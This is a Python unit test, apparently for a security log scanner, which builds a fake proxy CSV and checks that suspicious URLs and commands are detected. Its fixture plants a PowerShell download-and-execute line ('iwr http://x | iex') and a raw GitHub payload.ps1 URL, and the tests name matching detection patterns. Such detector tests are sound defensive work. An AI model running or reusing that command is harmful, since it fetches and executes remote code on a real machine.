@@ -0,0 +1,65 @@
+import os
+import csv
+import sys
+import shutil
+import tempfile
+import unittest
+
+# Ajout du répertoire parent au chemin de recherche
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), '../src')))
+
+from utils.csv_scanner import CsvColumnScanner
+from utils.file_analyzer import FileAnalyzer
+
+
+class TestCsvScanner(unittest.TestCase):
+    """Tests unitaires pour l'analyse CSV par colonnes"""
+
+    def setUp(self):
+        """Initialisation avant chaque test"""
+        self.test_dir = tempfile.mkdtemp()
+        self.csv_path = os.path.join(self.test_dir, "proxy.csv")
+        with open(self.csv_path, "w", newline="") as f:
+            writer = csv.writer(f)
+            writer.writerow(["timestamp", "user", "url", "command_line"])
+            for i in range(12000):
+                url = f"https://intranet.local/page/{i}"
+                command = "explorer.exe"
+                if i == 2500:
+                    url = "https://RAW.GitHubUserContent.com/x/payload.ps1"
+                if i in (5000, 11999):
+                    command = 'powershell -nop -c "iwr http://x | iex" 2>&1'
+                if i == 7000:
+                    # Domaine sans URL : ignoré ; valeur multiligne
+                    url = "see pastebin.com\nlater"
+                writer.writerow([f"2024-03-10T00:00:{i % 60:02d}", f"user{i}", url, command])
+            writer.writerow(["2024-03-10T01:00:00", "short"])
+
+    def tearDown(self):
+        """Nettoyage après chaque test"""
+        shutil.rmtree(self.test_dir)
+
+    def test_scan_all_rows(self):
+        """Test de l'analyse de toutes les lignes, au-delà de l'ancienne limite de 1000"""
+        scan = CsvColumnScanner(batch_rows=1000, use_arrow=False).scan(self.csv_path)
+        self.assertEqual(scan["rows"], 12001)
+        hits = {(h["column"], h["pattern"]): h for h in scan["hits"]}
+
+        self.assertEqual(set(hits), {("url", "raw.githubusercontent.com"), ("command_line", "powershell"),
+                                     ("command_line", "2>&1")})
+        self.assertEqual(hits[("url", "raw.githubusercontent.com")]["rows"], [2501])
+        self.assertEqual(hits[("command_line", "powershell")]["count"], 2)
+        self.assertEqual(hits[("command_line", "powershell")]["rows"], [5001, 12000])
+
+    def test_file_analyzer(self):
+        """Test des menaces agrégées par colonne"""
+        threats = FileAnalyzer()._analyze_csv_file(self.csv_path)["threats"]
+        by_type = {}
+        for threat in threats:
+            by_type.setdefault(threat["type"], []).append(threat)
+        self.assertEqual(len(by_type["suspicious_command"]), 2)
+        self.assertEqual(by_type["suspicious_url"][0]["details"]["count"], 1)
+
+
+if __name__ == '__main__':
+    unittest.main()